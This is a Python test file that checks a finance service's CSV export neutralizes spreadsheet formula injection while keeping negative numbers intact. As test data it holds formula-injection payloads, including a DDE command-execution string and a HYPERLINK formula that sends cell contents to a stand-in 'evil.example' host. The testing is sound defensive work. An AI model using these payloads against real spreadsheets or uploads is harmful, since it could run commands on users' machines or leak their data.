"""Spreadsheet formula injection: no exported CSV cell starts a formula, numbers stay numbers.

The property runs on the one CSV writer every export uses (finance/render.py);
the HTTP test goes through an upload whose file name and references a carrier
controls, and the exceptions download finance opens in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import aiohttp
import asyncpg
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gateway.finance.render import to_csv
from tests.support.webapi import WebApi

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
SKIPPED = " \u00a0"
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
COLUMNS = ("a", "b", "c")

cells = st.one_of(
    st.none(), st.integers(min_value=-10**12, max_value=10**12),
    st.text(max_size=20),
    st.sampled_from(["=1+1", "+33612345678", "-12.50", "-0.01", "@SUM(A1)", "\t=1", "\r=1",
                     "-1+1", "=HYPERLINK(\"http://x\")", "12.50", "-", "'quoted", " =1+1",
                     "\u00a0 @A1", " -12.50"]),
    st.builds(lambda p, t: p + t, st.sampled_from(DANGEROUS), st.text(max_size=10)),
)


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.fixed_dictionaries({c: cells for c in COLUMNS}), max_size=8))
def test_no_cell_starts_a_formula_unless_it_is_a_number(rows: list[dict[str, Any]]) -> None:
    header, *body = parsed(to_csv(rows, COLUMNS))
    assert header == list(COLUMNS)
    assert len(body) == len(rows)
    for row, line in zip(rows, body, strict=True):
        for column, cell in zip(COLUMNS, line, strict=True):
            lead = cell.lstrip(SKIPPED)
            assert not lead.startswith(DANGEROUS) or NUMBER.fullmatch(cell), cell
            value = row[column]
            original = "" if value is None else str(value)
            # nothing is lost: the cell is the value, or the value behind one quote
            assert cell in (original, "'" + original)
            if cell != original:
                assert original.lstrip(SKIPPED).startswith(DANGEROUS)


def test_negative_amounts_and_plain_text_are_kept_as_they_are() -> None:
    rows: list[dict[str, Any]] = [
        {"a": "-12.50", "b": -1250, "c": "Ada Lovelace"},
        {"a": "=cmd|' /C calc'!A0", "b": "+12025550123", "c": "@SUM(A1)"}]
    assert parsed(to_csv(rows, COLUMNS))[1:] == [
        ["-12.50", "-1250", "Ada Lovelace"],
        ["'=cmd|' /C calc'!A0", "'+12025550123", "'@SUM(A1)"]]


async def test_the_exceptions_download_neutralizes_what_a_settlement_file_controls(
    pool: asyncpg.Pool, site: WebApi,
) -> None:
    finance = await site.staff("finance")
    settlement = (
        "line_id,message_id,donation_ref,msisdn,carrier,amount,fee,net,currency,"
        "settlement_date\n"
        "L1,@SUM(1+1)*cmd,,+12125550100,Verizon,-2.00,0.00,-2.00,USD,2024-12-01\n")
    data = aiohttp.FormData()
    data.add_field("file", settlement.encode(), filename="x.csv", content_type="text/csv")
    data.add_field("name", '=HYPERLINK("http://evil.example/?"&A1,"open")')
    uploaded = await site.client.post("/api/v1/reconciliation/imports", data=data,
                                      headers=finance.bearer)
    assert uploaded.status == 201, await uploaded.text()
    download = await site.client.get("/api/v1/reconciliation/exceptions",
                                     headers=finance.bearer)
    assert download.status == 200
    [row] = list(csv.DictReader(io.StringIO(await download.text(), newline="")))
    assert row["file"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert row["reference"] == "'@SUM(1+1)*cmd"
    assert (row["received"], row["difference"]) == ("-2.00", "-2.00")  # still numbers
